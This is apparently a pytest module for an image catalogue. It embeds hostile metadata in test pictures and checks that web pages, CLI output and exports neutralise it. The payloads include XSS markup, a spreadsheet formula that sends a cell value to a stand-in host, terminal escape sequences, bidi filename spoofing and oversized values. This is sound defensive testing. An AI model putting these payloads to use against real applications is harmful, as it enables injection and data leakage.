"""Pictures whose metadata are hostile in every field: imported, shown, searched and exported, they break nothing."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree, html

from catalog.library import Library, open_library
from catalog.model import Image, ImportSummary
from fixtures.drawing import scene
from fixtures.packets import IIM, dataset, exif, into_jpeg, into_png, png_xmp, xmp
from tests.cli.clirunning import run
from web import create_app

#: Stands for a lone surrogate where a string has to be written as UTF-8 first.
_LONE = "\ue0d8"
PAYLOADS = {
    "markup": '"><evil onerror=alert(1)><script>evil()</script></textarea>]]>{{ 7*7 }}&lt;evil&gt;&#60;evil&#62; Evil Harbour',
    "formula": '=HYPERLINK("http://evil.test/?"&A1,"Evil Harbour")',
    "terminal": "red\x1b[31m\x1b]0;title\x07\x9b2J\x08\x08\rover Evil Harbour",
    "bidi": "Evil \u202egpj.exe\u2066\u200f\ufeff\u2028 Harbour",
    "broken": f"nul\x00 lone{_LONE} \ufffe\uffff Evil Harbour",
    "huge": "Evil Harbour " + "word " * 1_000_000,
}
_PLAIN = ("headline", "credit", "byline", "source", "copyright", "city", "state", "country", "location", "title")
_XMP_NAMES = (
    "photoshop:Headline", "photoshop:Credit", "photoshop:Source", "photoshop:City", "photoshop:State", "photoshop:Country",
    "photoshop:DateCreated", "xmp:Rating", "xmpMM:DocumentID", "xmpMM:InstanceID", "xmpMM:OriginalDocumentID",
    "Iptc4xmpCore:Location", "Iptc4xmpExt:DigitalSourceType", "Iptc4xmpExt:AISystemUsed", "Iptc4xmpExt:AIPromptInformation",
    "exif:GPSLatitude", "exif:GPSLongitude", "tiff:Make",
)  # fmt: skip
#: What no terminal may be sent: controls other than line ends, and marks that reorder or hide text.
_UNSAFE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200f\ufeff\u2028]")
_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]")


def _packet(text: str) -> bytes:
    """An XMP packet with ``text`` in every field, XML's own rules broken where the text breaks them."""
    lists: dict[str, str | list[str] | dict[str, str]] = dict.fromkeys(_XMP_NAMES, text)
    lists |= {name: [text, text + "2"] for name in ("dc:creator", "dc:subject", "Iptc4xmpExt:PersonInImage")}
    lists |= {name: {"x-default": text, "fr": text} for name in ("dc:description", "dc:title", "dc:rights")}
    return xmp(lists).replace(_LONE.encode(), b"\xed\xa0\x80")


def _bytes(text: str) -> bytes:
    return text.encode().replace(_LONE.encode(), b"\xed\xa0\x80")


def _iim(text: str) -> bytes:
    names = ("caption", "date", "time", "keywords", *_PLAIN)
    values = {name: text if name == "caption" else text[:20_000] for name in names}
    return dataset(1, 90, b"\x1b%G") + b"".join(dataset(2, IIM[name][0], _bytes(one)) for name, one in values.items())


def _pictures(folder: Path) -> None:
    """For each payload a JPEG with all groups, a PNG with texts, and a JPEG with a sidecar; a story tells of them."""
    folder.mkdir()
    plain = {form: io.BytesIO() for form in ("JPEG", "PNG")}
    for number, (name, text) in enumerate(PAYLOADS.items()):
        short = text[:3000]
        for form, out in plain.items():
            out.seek(0)
            out.truncate()
            scene("harbour", (240, 160), seed=number).save(out, form)
        jpeg, png = plain["JPEG"].getvalue(), plain["PNG"].getvalue()
        tags: dict[int, bytes] = dict.fromkeys((270, 271, 272, 305, 315, 33432), _bytes(short).replace(b"\0", b""))
        block = exif(tags, dict.fromkeys((36867, 36881, 42036, 42039), _bytes(short).replace(b"\0", b"")))
        (folder / f"{name}.jpg").write_bytes(into_jpeg(jpeg, iim=_iim(text), xmp=_packet(text[:500]), exif=block))
        chunks = [
            (b"iTXt", key + b"\0\0\0\0\0" + _bytes(text)) for key in (b"Description", b"Title", b"Author", b"Comment")
        ]
        chunks += [(b"tEXt", _bytes(short)[:79] + b"\0" + _bytes(short)), png_xmp(_packet(short))]
        (folder / f"{name}-png.png").write_bytes(into_png(png, chunks))
        (folder / f"{name}-side.jpg").write_bytes(
            into_jpeg(jpeg, iim=_iim("Other words of the Evil Harbour on Monday"))
        )
        (folder / f"{name}-side.jpg.xmp").write_bytes(_packet(text if name != "huge" else text[:100_000]))
    (folder / "story.txt").write_text(
        "A story\n\nWords of a story about nothing.\n\nOther words of the Evil Harbour on Monday\n"
    )


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A closed catalogue of the hostile pictures."""
    folder = tmp_path_factory.mktemp("hostile")
    _pictures(folder / "in")
    with open_library(folder / "cat") as library:
        summary = list(library.import_([folder / "in"], workers=1))[-1]
    assert isinstance(summary, ImportSummary)
    assert summary.images == 3 * len(PAYLOADS), "every picture is imported, whatever it says"
    return folder / "cat"


@pytest.fixture
def desk(made: Path, tmp_path: Path) -> Iterator[Library]:
    """An open copy of it."""
    shutil.copytree(made, tmp_path / "cat")
    with open_library(tmp_path / "cat") as library:
        yield library


def _images(library: Library) -> dict[str, Image]:
    return {Path(r.image.paths[0]).stem: r.image for r in library.records()}


def _addresses(library: Library) -> Iterator[str]:
    """Every page that can show a field."""
    yield from (
        "/",
        "/search?q=evil",
        "/search?q=harbour&view=list",
        "/review",
        "/overview",
        "/log",
        "/groups",
        "/import",
    )
    records = list(library.records())
    for record in records:
        yield f"/images/{record.id}"
        yield from (f"/compare/{match.a}/{match.b}" for match in record.matches)
        yield from (f"/articles/{usage.article}" for usage in record.usages)
    findings = library.findings(limit=500).items
    yield from (f"/review/{finding.id}" for finding in findings)
    assert {finding.kind for finding in findings} >= {"metadata", "duplicate"}


def test_pages_show_every_field_as_text(desk: Library) -> None:
    """No field becomes an element, an attribute or a script of any page, and no page fails."""
    client = create_app(desk).test_client()
    shown = 0
    for address in dict.fromkeys(_addresses(desk)):
        answer = client.get(address)
        assert answer.status_code == 200, address
        text = answer.get_data(as_text=True)
        assert not _CONTROLS.search(text), address
        tree = html.fromstring(text)
        assert not tree.xpath("//evil | //*[@onerror] | //script[not(@src)][contains(., 'evil()')]"), address
        assert len(text) < 2_000_000, address
        shown += "Evil Harbour" in text_of(tree)
    assert shown > 3 * len(PAYLOADS)


def text_of(tree: etree._Element) -> str:
    """The words of a page."""
    return " ".join("".join(str(part) for part in tree.itertext()).split())


@pytest.mark.parametrize(
    "command",
    [
        ("list",),
        ("search", "evil"),
        ("search", "harbour", "--facets"),
        ("findings",),
        ("duplicates",),
        ("show",),
        ("log",),
    ],
    ids=" ".join,
)
def test_no_field_steers_a_terminal(made: Path, command: tuple[str, ...]) -> None:
    """Readable output has no control byte and no mark that reorders text; JSON has no control and parses."""
    with open_library(made) as library:
        each = [(record.id,) for record in library.records()] if command == ("show",) else [()]
    for more in each:
        done = run(made, (*command, *more), None, None)
        assert done.code == 0 and not _UNSAFE.search(done.out) and not _UNSAFE.search(done.err)
        asked = run(made, (*command, *more, "--json"), None, None)
        assert asked.lines is not None and not _CONTROLS.search(asked.out)


@pytest.mark.parametrize("name", ["csv", "jsonl", "xmp", "ninjs", "jsonld", "iiif"])
def test_exports_parse_and_start_no_formula(desk: Library, name: str) -> None:
    """Each format comes out as what it says it is, with every picture in it; no cell of the table begins a formula."""
    data = b"".join(desk.export(name, base="http://127.0.0.1"))
    pictures = 3 * len(PAYLOADS)
    if name == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        assert len(rows) == pictures + 1
        assert not [cell for row in rows for cell in row if re.match(r"[=+\-@\t\r]", cell)]
    elif name == "xmp":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            packets = [etree.fromstring(archive.read(one)) for one in archive.namelist()]
        data = b"".join(etree.tostring(packet, encoding="utf-8") for packet in packets)
        assert len(packets) == pictures and not any(packet.xpath("//evil") for packet in packets)
    elif name in ("jsonl", "ninjs"):
        assert sum("Evil Harbour" in json.dumps(json.loads(line)) for line in data.splitlines()) >= pictures - 6
    else:
        json.loads(data)
    assert not _CONTROLS.search(data.decode().replace("\r\n", "\n"))


def test_the_store_stays_whole_and_reads_back(desk: Library, tmp_path: Path) -> None:
    """Verification finds no damage, and an export of everything is read back with the same metadata."""
    assert list(desk.verify()) == []
    everything = tmp_path / "all.jsonl"
    everything.write_bytes(b"".join(desk.export("jsonl", everything=True)))
    with open_library(tmp_path / "again") as again:
        list(again.import_([everything], workers=1))
        assert {i: one.metadata for i, one in _images(again).items()} == {
            i: one.metadata for i, one in _images(desk).items()
        }


def test_every_hostile_picture_is_found_by_its_words(desk: Library) -> None:
    """What was cleaned and cut is still searched: each picture by its caption's, and a payload as a query is only words."""
    found = {Path(record.image.paths[0]).stem for record in desk.records("harbour")}
    assert {f"{name}{kind}" for name in PAYLOADS for kind in ("", "-png")} - {"bidi", "bidi-png"} <= found
    client = create_app(desk).test_client()
    for text in PAYLOADS.values():
        assert client.get("/search", query_string={"q": text[:2000].replace(_LONE, "")}).status_code in (200, 400)


def test_what_was_cut_is_said_on_the_record(desk: Library) -> None:
    """Values of megabytes are kept cut with a note; nothing kept has a control, and no record grows beyond reason."""
    images = _images(desk)
    assert any("was cut" in warning for warning in images["huge"].warnings)
    assert any("was cut" in warning for warning in images["huge-side"].warnings)
    for image in images.values():
        kept = [part for one in image.metadata.fields for part in (one.name, one.value, one.raw)]
        assert not any(_CONTROLS.search(part.replace("\r", "")) for part in kept)
        assert sum(map(len, kept)) < 1_000_000
    assert images["broken"].warnings and images["broken-png"].metadata.caption
